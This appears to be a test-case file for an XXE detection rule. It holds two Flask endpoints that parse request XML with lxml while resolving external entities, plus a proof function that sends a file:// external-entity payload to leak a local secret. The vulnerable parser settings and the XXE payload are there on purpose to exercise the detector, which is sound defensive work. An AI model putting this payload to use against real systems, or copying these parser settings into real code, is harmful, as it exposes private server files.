#: rule xxe
import xml.dom.minidom
import xml.sax
from io import BytesIO
from xml.etree import ElementTree

from flask import Flask, request
from lxml import etree

app = Flask(__name__)


#: proof
def post(p, data):
    return p.app.test_client().post("/", data=data).get_data(as_text=True)


def benign(p):
    return [post(p, d) for d in (b"<a><b>one</b></a>", b"<a><b>&lt;</b></a>")]


def exploit(p):
    open("secret", "w").write("SECRET")
    where = "file://" + os.path.abspath("secret")
    try:
        return "SECRET" in post(p, f'<!DOCTYPE a [<!ENTITY x SYSTEM "{where}">]><a><b>&x;</b></a>'.encode())
    except Exception:
        return False


#: case lxml, parser with entities
@app.post("/")
def read():
    parser = etree.XMLParser(resolve_entities=True)
    return etree.fromstring(request.get_data(), parser).findtext("b") or ""


#: case lxml, parser in the call
@app.post("/")
def read():
    tree = etree.parse(BytesIO(request.get_data()), etree.XMLParser(load_dtd=True, resolve_entities=True))
    return tree.findtext("b") or ""
